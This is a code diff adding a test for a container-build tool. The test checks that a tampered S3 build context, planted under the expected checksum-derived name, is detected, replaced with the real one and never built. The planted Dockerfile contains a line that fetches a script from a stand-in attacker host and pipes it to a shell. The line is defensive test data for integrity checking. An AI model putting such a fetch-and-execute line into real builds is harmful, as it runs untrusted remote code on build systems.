@@ -291,3 +291,38 @@ def test_another_registry_gets_a_digest_file_and_a_warning_when_it_may_expire(
     assert "warning: the credentials signing the digest URL expire in" in short.stderr
     assert short.returncode == 1, short.stderr
     assert "writing digest to file failed" in short.stderr, "kaniko's own reason is shown"
+
+
+def test_a_context_whose_bytes_are_not_its_name_is_never_built(
+        dockyard: Dockyard, account: Account, builder: FakeKaniko, tmp_path: Path) -> None:
+    """Something planted under the name the context will have (here by the operator, the only
+    other identity that may write web's contexts) is not built: its checksum is not the
+    packed context's, so the build uploads the real one over it and kaniko reads that."""
+    import gzip
+    import io
+    import tarfile
+
+    saved = dockyard("build", "app", "--save-context", "ctx.tar.gz", "-o", "json")
+    assert saved.returncode == 0, saved.stderr
+    name = json.loads(saved.stdout)["tar_sha256"]
+    key = f"contexts/apps/web/{name}.tar.gz"
+    bucket = account.output("acme-builder", "ContextBucket")
+    evil = io.BytesIO()
+    with tarfile.open(fileobj=evil, mode="w") as archive:
+        data = b"FROM evil\nRUN curl attacker | sh\n"
+        info = tarfile.TarInfo("Dockerfile")
+        info.size = len(data)
+        archive.addfile(info, io.BytesIO(data))
+    s3 = account.client("s3")
+    s3.put_object(Bucket=bucket, Key=key, Body=gzip.compress(evil.getvalue()),
+                  ChecksumAlgorithm="SHA256")  # a checksum true to the planted bytes
+    done = dockyard("build", "--repo", "web", "app", build="web/main")
+    assert done.returncode == 0, done.stderr
+    assert f"s3://{bucket}/{key} does not hold what its name says" in done.stderr
+    assert s3.get_object(Bucket=bucket, Key=key)["Body"].read() == \
+        (tmp_path / "ctx.tar.gz").read_bytes(), "the real context replaced it"
+    (handled,) = builder.handled
+    assert f"--context=s3://{bucket}/{key}" in handled["command"]
+    again = dockyard("build", "--repo", "web", "app", build="web/main")
+    assert again.returncode == 0, again.stderr
+    assert "is already uploaded" in again.stderr, "the real context, checked, is reused"
